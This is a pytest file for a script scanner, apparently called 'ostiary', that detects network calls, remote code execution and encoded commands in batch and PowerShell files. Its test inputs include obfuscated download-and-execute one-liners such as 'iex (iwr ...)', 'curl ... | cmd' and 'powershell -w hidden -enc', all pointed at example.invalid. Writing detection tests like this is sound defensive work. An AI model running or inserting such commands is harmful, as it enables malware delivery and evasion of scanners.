"""Batch files and PowerShell are read for what they start, and say where they cannot be followed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ostiary.formats.contents import Kind
from ostiary.program.model import Behaviour, Origin
from ostiary.program.source import Source, read_source

GYP = '@rem words\r\n\r\n@python "%~dp0gyp_main.py" %*\r\n'
ACTIVATE = """@for /f "tokens=2 delims=:." %%a in ('"%SystemRoot%\\System32\\chcp.com"') do @set _OLD=%%a
@if defined _OLD (
    "%SystemRoot%\\System32\\chcp.com" 65001 > nul
)
@if not defined PROMPT @set "PROMPT=$P$G"
@if NOT "__TCL__"=="" @set "TCL=__TCL__"
@if defined OLD @goto END
    @set "OLD=%PYTHONHOME%"
:END
"""


def read(text: str, path: str = "a.bat") -> Source:
    return read_source(path, Kind.BATCH, text.encode())


def told(text: str, path: str = "a.bat") -> set[tuple[Behaviour, Origin]]:
    return {(one.behaviour, one.origin) for one in read(text, path).calls}


def test_launchers_and_activation() -> None:
    source = read(GYP)
    assert source.parsed
    assert [(one.path, one.program) for one in source.runs] == [("./gyp_main.py", "python")]
    assert read(ACTIVATE).parsed
    assert read(ACTIVATE).calls == ()


NET = (Behaviour.NETWORK, Origin.UNKNOWN)
RUN = (Behaviour.EXECUTE, Origin.NETWORK)
ENCODED = (Behaviour.EXECUTE, Origin.DECODED)


@pytest.mark.parametrize(
    ("text", "one"),
    [
        ("curl -o x.exe http://example.invalid/x\nstart x.exe", NET),
        ("curl -o x.exe http://example.invalid/x\nstart x.exe", RUN),
        ("c^u^r^l http://example.invalid", NET),
        ("set a=cu\nset b=rl\n%a%%b% http://example.invalid", NET),
        ("@echo off & certutil -urlcache -split -f http://example.invalid x.exe", NET),
        ("if exist x (curl http://example.invalid)", NET),
        ("for %%i in (1 2) do curl http://example.invalid/%%i", NET),
        ("for /f %%i in ('curl http://example.invalid') do echo %%i", NET),
        ("curl http://example.invalid | cmd", RUN),
        ("powershell -w hidden -enc SQBFAFgA", ENCODED),
        ("powershell.exe -NoP -c iex (iwr http://example.invalid)", RUN),
        ('cmd /c "curl http://example.invalid"', NET),
        ("cu^\nrl http://example.invalid", NET),
    ],
)
def test_batch(text: str, one: tuple[Behaviour, Origin]) -> None:
    assert one in told(text)


@pytest.mark.parametrize(
    ("text", "one"),
    [
        ("iex (iwr http://example.invalid)", RUN),
        ("IwR http://example.invalid | I`e`X", RUN),
        ("$x = (New-Object Net.WebClient).DownloadString('http://a')\nInvoke-Expression $x", RUN),
        ("& ('i'+'ex') (irm http://example.invalid)", RUN),
        ("$t = [Convert]::FromBase64String('x'); iex $t", ENCODED),
        ("Invoke-WebRequest http://example.invalid -OutFile x.exe\nStart-Process x.exe", RUN),
        ("if ($x) { curl http://example.invalid }", NET),
        ("powershell -EncodedCommand SQBFAFgA", ENCODED),
        ("Invoke-Expression 'iwr http://example.invalid'", NET),
    ],
)
def test_powershell(text: str, one: tuple[Behaviour, Origin]) -> None:
    assert one in told(text, "a.ps1")


def test_words_in_comments_and_texts_do_nothing() -> None:
    assert not told("REM curl x\n:: curl x\necho curl x | more\n:curl\n")
    assert not told("# iex (iwr x)\n<# iwr x #>\nWrite-Host 'iwr x' \"iex\"\n", "a.ps1")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.bat", "%ComSpec:~0,3% x"),
        ("a.bat", "if what is this\n"),
        ("a.ps1", "& ('{1}{0}' -f 'x','ie') $y"),
        ("a.ps1", "Write-Host 'never ends"),
        ("a.wsf", "x = 1"),
        ("a.vbs", "Execute other(1)"),
    ],
)
def test_what_is_not_followed_is_unread(path: str, text: str) -> None:
    source = read(text, path)
    assert not source.parsed
    assert source.reason


@given(st.text(max_size=300), st.sampled_from(["a.bat", "a.ps1"]))
def test_any_text_ends_in_a_record(text: str, path: str) -> None:
    assert isinstance(read_source(path, Kind.BATCH, text.encode("utf-8", "replace")), Source)
